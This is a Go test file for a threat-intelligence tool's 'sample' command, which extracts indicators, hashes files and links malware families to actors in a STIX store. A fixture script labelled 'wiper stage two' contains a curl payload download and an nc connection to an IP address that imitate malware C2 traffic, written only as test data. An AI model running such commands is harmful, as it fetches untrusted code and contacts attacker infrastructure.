package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/culprit-cti/culprit/kb"
	"github.com/culprit-cti/culprit/sample"
	"github.com/culprit-cti/culprit/stix"
)

func sampleEnv() (*env, *bytes.Buffer, *bytes.Buffer) {
	var out, errb bytes.Buffer
	return &env{
		stdin:  strings.NewReader(""),
		stdout: &out,
		stderr: &errb,
		getenv: func(string) string { return "" },
	}, &out, &errb
}

// dropper writes a small script that carries C2 addresses.
func dropper(t *testing.T) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "dropper.sh")
	body := "#!/bin/sh\n# wiper stage two\ncurl -s http://update.example-cdn.com/x.bin -o /tmp/x\nnc 203.131.222.102 8080\n"
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestSampleText(t *testing.T) {
	p := dropper(t)
	e, out, errb := sampleEnv()
	if code := run(context.Background(), []string{"sample", "--strings", p}, e); code != 0 {
		t.Fatalf("exit %d, stderr %s", code, errb)
	}
	for _, want := range []string{
		"type    script (/bin/sh)",
		"md5     ", "sha256  ", "ssdeep  3:",
		"indicators (3)",
		"  ipv4    203.131.222.102",
		"  url     http://update.example-cdn.com/x.bin",
		"strings (",
		"ascii    # wiper stage two",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
}

func TestSampleJSON(t *testing.T) {
	p := dropper(t)
	// A small system executable; the test binary itself is too large to
	// analyse quickly under -race.
	exe, err := exec.LookPath("true")
	if err != nil {
		t.Skip("no true(1) executable")
	}
	if head, err := os.ReadFile(exe); err != nil || !bytes.HasPrefix(head, []byte("\x7fELF")) {
		t.Skipf("%s is not an ELF file", exe)
	}
	e, out, errb := sampleEnv()
	if code := run(context.Background(), []string{"sample", "--json", p, exe}, e); code != 0 {
		t.Fatalf("exit %d, stderr %s", code, errb)
	}
	dec := json.NewDecoder(out)
	var reps []sample.Report
	for dec.More() {
		var r sample.Report
		if err := dec.Decode(&r); err != nil {
			t.Fatalf("output is not JSON lines: %v", err)
		}
		reps = append(reps, r)
	}
	if len(reps) != 2 {
		t.Fatalf("got %d reports, want 2", len(reps))
	}
	if reps[0].Type != sample.Script || reps[0].Path != p || len(reps[0].Indicators) != 3 || reps[0].Strings != nil {
		t.Errorf("script report = %s %s, %d indicators, %d strings; want script, %s, 3, none", reps[0].Type, reps[0].Path, len(reps[0].Indicators), len(reps[0].Strings), p)
	}
	if reps[1].Type != sample.ELF || reps[1].ELF == nil || len(reps[1].ELF.Sections) == 0 {
		t.Errorf("%s report type = %s, want elf with sections", exe, reps[1].Type)
	}
}

func TestSampleErrors(t *testing.T) {
	tests := []struct {
		name   string
		args   []string
		code   int
		stderr string
	}{
		{"no files", []string{"sample"}, 2, "no FILE"},
		{"add without family", []string{"sample", "--add", "x"}, 2, "--add and --family"},
		{"family without add", []string{"sample", "--family", "Destover", "x"}, 2, "--add and --family"},
		{"bad min-string", []string{"sample", "--min-string", "0", "x"}, 2, "--min-string"},
		{"actor without add", []string{"sample", "--actor", "Lazarus", "x"}, 2, "--actor needs --add"},
		{"missing file", []string{"sample", filepath.Join(os.TempDir(), "culprit-no-such-file")}, 1, "no such file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, _, errb := sampleEnv()
			if code := run(context.Background(), tt.args, e); code != tt.code || !strings.Contains(errb.String(), tt.stderr) {
				t.Errorf("run(%q) = %d, stderr %q; want %d and %q", tt.args, code, errb, tt.code, tt.stderr)
			}
		})
	}
}

func TestSampleAdd(t *testing.T) {
	p := dropper(t)
	db := filepath.Join(t.TempDir(), "kb.db")
	ctx := context.Background()
	for i, want := range []string{"new family", "existing family"} {
		e, _, errb := sampleEnv()
		if code := run(ctx, []string{"sample", "--add", "--family", "Destover", "--db", db, p}, e); code != 0 {
			t.Fatalf("run %d: exit %d, stderr %s", i, code, errb)
		}
		if !strings.Contains(errb.String(), want) {
			t.Errorf("run %d: stderr %q, want %q", i, errb, want)
		}
	}
	store, err := openStoreAt(ctx, db, true)
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	ms, err := store.LookupName(ctx, "destover")
	if err != nil || len(ms) != 1 || ms[0].Type != "malware" {
		t.Fatalf("LookupName(destover) = %v, %v; want one malware", ms, err)
	}
	var files []string
	err = store.Objects(ctx, kb.ObjectQuery{Types: []string{"file"}}, func(o *stix.Object) error {
		files = append(files, string(o.Raw))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != 1 || !strings.Contains(files[0], `"TLSH":"T1`) || !strings.Contains(files[0], `"SSDEEP":`) || !strings.Contains(files[0], `"name":"dropper.sh"`) {
		t.Errorf("stored files = %q, want one with TLSH, SSDEEP and name", files)
	}
	var rels int
	err = store.Relationships(ctx, kb.RelationshipQuery{}, func(o *stix.Object) error {
		if o.TargetRef == ms[0].ID && strings.HasPrefix(o.SourceRef, "file--") {
			rels++
		}
		return nil
	})
	if err != nil || rels != 1 {
		t.Errorf("file → family relationships = %d (%v), want 1", rels, err)
	}
}

func TestSampleAddActor(t *testing.T) {
	p := dropper(t)
	db := filepath.Join(t.TempDir(), "kb.db")
	ctx := context.Background()
	store, err := openStoreAt(ctx, db, true)
	if err != nil {
		t.Fatal(err)
	}
	actor, err := stix.ParseObject([]byte(`{"type":"intrusion-set","spec_version":"2.1","id":"intrusion-set--3c8d4a1e-8a2e-4b5e-9d43-6f0d7d5c1a10",` +
		`"created":"2020-01-01T00:00:00.000Z","modified":"2020-01-01T00:00:00.000Z","name":"Lazarus Group","aliases":["Guardians of Peace"]}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := store.Import(ctx, kb.Source{Kind: kb.SourceFile, Name: "actors.json"}, kb.SliceStream([]*stix.Object{actor}), kb.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	store.Close()

	e, _, errb := sampleEnv()
	if code := run(ctx, []string{"sample", "--add", "--family", "Destover", "--actor", "guardians of peace", "--db", db, p}, e); code != 0 {
		t.Fatalf("exit %d, stderr %s", code, errb)
	}
	e, _, errb = sampleEnv()
	if code := run(ctx, []string{"sample", "--add", "--family", "Destover", "--actor", "nobody", "--db", db, p}, e); code != 1 || !strings.Contains(errb.String(), `no actor named "nobody"`) {
		t.Errorf("unknown actor: exit %d, stderr %q; want 1 and an explanation", code, errb)
	}

	store, err = openStoreAt(ctx, db, true)
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	var uses []string
	err = store.Relationships(ctx, kb.RelationshipQuery{Types: []string{"uses"}, SourceRefs: []string{actor.ID}}, func(o *stix.Object) error {
		uses = append(uses, o.TargetRef)
		return nil
	})
	if err != nil || len(uses) != 1 || !strings.HasPrefix(uses[0], "malware--") {
		t.Errorf("actor uses %v (%v), want the new malware family", uses, err)
	}
}
